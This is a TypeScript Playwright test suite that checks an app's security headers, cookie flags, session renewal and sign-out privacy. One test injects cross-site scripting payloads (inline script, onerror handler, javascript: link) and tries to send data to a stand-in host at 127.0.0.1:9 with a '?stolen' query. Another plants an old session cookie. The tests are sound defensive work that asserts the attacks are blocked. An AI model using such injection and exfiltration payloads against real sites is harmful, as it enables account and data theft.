import type { Page, Response } from 'playwright-core'
import { expect, it } from 'vitest'
import { register } from '../pages/registration-steps.ts'
import { type Face, openSignIn, signInByPassword, signOut, waitForHome } from '../pages/sign-in.ts'
import { productOrigin, useDevices } from '../world/devices.ts'
import { everythingKept } from '../world/kept-in-browser.ts'
import { openLine } from '../world/own-line.ts'
import { aPerson, type Person } from '../world/people.ts'

const { openPhone, openDesktop, takeFaults } = useDevices()
const open = { app: openPhone, portal: openDesktop }
const faces = ['app', 'portal'] as const
const start = { app: '/', portal: '/portal/' }
const account = { app: '/account', portal: '/portal/security' }

async function registeredOn(face: Face, person: Person) {
  const page = await open[face]()
  await register(page, face, person)
  await waitForHome(page, face)
  return page
}

it.each(faces)('every page and answer of the %s comes with the headers that protect it', async (face) => {
  const page = await open[face]()
  // The first of each address: what Chromium takes from its cache later has lost its HSTS header there.
  const first = new Map<string, Response>()
  page.on('response', (response) => {
    if (!first.has(response.url())) first.set(response.url(), response)
  })
  await page.goto(start[face], { waitUntil: 'networkidle' })
  await page.goto('/no-such-file.txt')
  takeFaults(page)

  const responses = [...first.values()]
  const kinds = responses.map((response) => new URL(response.url()).pathname)
  for (const kind of [start[face], '/no-such-file.txt', '/api/session']) expect(kinds).toContain(kind)
  expect(kinds.some((path) => path.startsWith('/assets/'))).toBe(true)
  for (const response of responses.filter((each) => each.url().startsWith(productOrigin()))) {
    const headers = response.headers()
    const where = response.url()
    const policy = directives(headers['content-security-policy'])
    expect(policy, where).toMatchObject({
      'default-src': "'none'",
      'script-src': "'self' 'wasm-unsafe-eval'",
      'style-src': "'self'",
      'connect-src': "'self'",
      'frame-ancestors': "'none'",
      'base-uri': "'none'",
      'object-src': "'none'",
      'form-action': "'self'",
    })
    expect(headers, where).toMatchObject({
      'strict-transport-security': expect.stringMatching(/^max-age=\d{8,}/) as string,
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'permissions-policy': expect.stringMatching(/^camera=\(self\), .*microphone=\(\)/) as string,
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
    })
    if (where.includes('/api/')) expect(headers['cache-control'], where).toBe('no-store')
  }
})

const directives = (policy = '') =>
  Object.fromEntries(
    policy
      .split('; ')
      .map((directive) => [
        directive.slice(0, directive.indexOf(' ')),
        directive.slice(directive.indexOf(' ') + 1),
      ]),
  )

it.each(faces)(
  'a script that got into a page of the %s does not run, and takes nothing out',
  async (face) => {
    const line = await openLine()
    const page = await open[face]({ line })
    await openSignIn(page, face)
    await page.evaluate(() => {
      const ran = 'window.ran = true'
      document.head.append(Object.assign(document.createElement('script'), { textContent: ran }))
      document.body.insertAdjacentHTML(
        'beforeend',
        `<img src="data:," onerror="${ran}"><a href="javascript:${ran}">x</a>`,
      )
      document.head.append(
        Object.assign(document.createElement('script'), { src: 'http://127.0.0.1:9/script.js' }),
      )
      document.body.lastElementChild?.dispatchEvent(new MouseEvent('click'))
    })
    expect(await evalIn(page)).toBe('EvalError')
    expect(
      await page.evaluate(() =>
        fetch('http://127.0.0.1:9/?stolen').catch((error: unknown) => (error as Error).name),
      ),
    ).toBe('TypeError')
    await page.evaluate(() => void (new Image().src = 'http://127.0.0.1:9/?stolen'))
    await page.waitForTimeout(300)
    expect(await page.evaluate(() => 'ran' in window)).toBe(false)

    const faults = takeFaults(page)
    expect(line.passed.filter(({ url }) => !url.startsWith(productOrigin()))).toEqual([])
    for (const breach of [
      'script-src-elem: inline',
      'script-src-attr: inline',
      'script-src: eval',
      'script-src-elem: http://127.0.0.1:9',
      'connect-src: http://127.0.0.1:9',
      'img-src: http://127.0.0.1:9',
    ])
      expect(
        faults.some((fault) => fault.includes(`page policy, ${breach}`)),
        `${breach}: ${faults.join('\n')}`,
      ).toBe(true)
  },
)

/** From a timer: what the test itself evaluates is allowed more than the page. */
const evalIn = (page: Page) =>
  page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        setTimeout(() => {
          try {
            resolve(String((0, eval)('1')))
          } catch (error) {
            resolve((error as Error).name)
          }
        })
      }),
  )

it.each(faces)('what signs a holder in to the %s is out of reach of every script', async (face) => {
  const person = aPerson()
  const page = await registeredOn(face, person)
  const cookies = await page.context().cookies()
  expect(cookies.map(({ name }) => name).sort()).toEqual(['__Host-browser', `__Host-${face}-session`].sort())
  for (const cookie of cookies)
    expect(cookie).toMatchObject({
      httpOnly: true,
      secure: true,
      sameSite: 'Lax',
      path: '/',
      domain: 'localhost',
    })
  await page.goto(account[face], { waitUntil: 'networkidle' })
  const seen = await everythingKept(page)
  expect(seen).toContain('__test__')
  for (const secret of [...cookies.flatMap(({ value }) => value.split('.')), person.password, person.number])
    expect(seen).not.toContain(secret)
})

it.each(faces)('each sign-in to the %s has a new identifier, whatever was there before', async (face) => {
  const person = aPerson()
  const page = await registeredOn(face, person)
  const name = `__Host-${face}-session`
  const cookie = async () => (await page.context().cookies()).find((each) => each.name === name)?.value
  const first = await cookie()
  await signOut(page, face)
  expect(await cookie()).toBeUndefined()

  const devtools = await page.context().newCDPSession(page)
  const plant = () =>
    devtools.send('Network.setCookie', { name, value: first ?? '', url: productOrigin(), secure: true })
  expect(await plant()).toEqual({ success: true })
  await openSignIn(page, face)
  await signInByPassword(page, person)
  await waitForHome(page, face)
  const second = await cookie()
  expect(second).toMatch(/^[\w-]{22}\.[\w-]{43}$/)
  expect(second).not.toBe(first)

  await plant()
  await page.goto(start[face])
  await page.waitForURL('**/sign-in**')
})

it.each(faces)('after signing out, the way back through the %s shows nothing of the holder', async (face) => {
  const person = aPerson()
  const page = await registeredOn(face, person)
  await page.goto(account[face])
  await page.getByText(person.maskedName).first().waitFor()
  await signOut(page, face)
  for (let steps = 0; steps < 4; steps += 1) {
    await page.goBack().catch(() => undefined)
    await page.waitForTimeout(300)
    const text = await page.locator('body').innerText()
    expect(text).not.toContain(person.maskedName)
    expect(text).not.toContain(person.number.slice(-4))
  }
})
